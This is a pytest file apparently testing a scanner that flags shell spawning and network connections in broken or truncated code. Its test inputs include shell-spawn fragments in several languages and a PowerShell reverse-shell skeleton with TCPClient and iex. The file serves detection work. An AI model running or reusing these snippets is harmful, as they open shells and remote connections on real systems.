"""Cut and broken texts still show what they call."""

import subprocess
import sys

import pytest

from .helpers import analysis, capabilities


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("python", "import os; print 'x'; os.system('sh'"),
        ("javascript", "require('child_process').spawn('/bin/sh'"),
        ("php", "system('/bin/sh'"),
        ("lua", "os.execute('/bin/sh'"),
        ("awk", 'BEGIN { system("/bin/sh"'),
        ("scheme", '(system "/bin/sh"'),
    ],
)
def test_a_call_without_its_last_bracket_counts(language, text):
    assert "shell.spawn" in capabilities(text, language)


def test_broken_text_is_said_to_be_read_in_part():
    assert analysis("require('child_process').spawn('/bin/sh'", "javascript").parse == "partial"


def test_variables_that_a_shell_has_expanded_hide_no_connection():
    """``powershell -c "$c = ..."`` in a shell's double quotes: the names are gone, and what is done with them is not."""
    hole = "\U000f0000"
    text = (
        f"{hole} = New-Object System.Net.Sockets.TCPClient('h',1);{hole} = {hole}.GetStream();"
        f"while(({hole} = {hole}.Read({hole}, 0, 9)) -ne 0){{iex {hole}}}"
    )
    assert {"network.connect", "network.download-and-execute"} <= capabilities(text, "powershell")


@pytest.mark.parametrize(
    "text",
    [
        "while(\U000f0000<100000000){\U000f0000++",
        "while(\U0010ffff<1){\U0010ffff++",
        "while(\U0001f600<1){\U0001f600++",
    ],
)
def test_code_points_outside_a_scanner_s_tables_do_not_end_the_process(text: str) -> None:
    program = (
        "from flycatcher.core.payload import analyse\nfrom flycatcher.core.snippet import Snippet\n"
        f"found = analyse(Snippet(interpreter='bash', language='shell', vector='argument', text={text!r}))\nprint(found.parse)"
    )
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout) == (0, "partial\n"), done.stderr
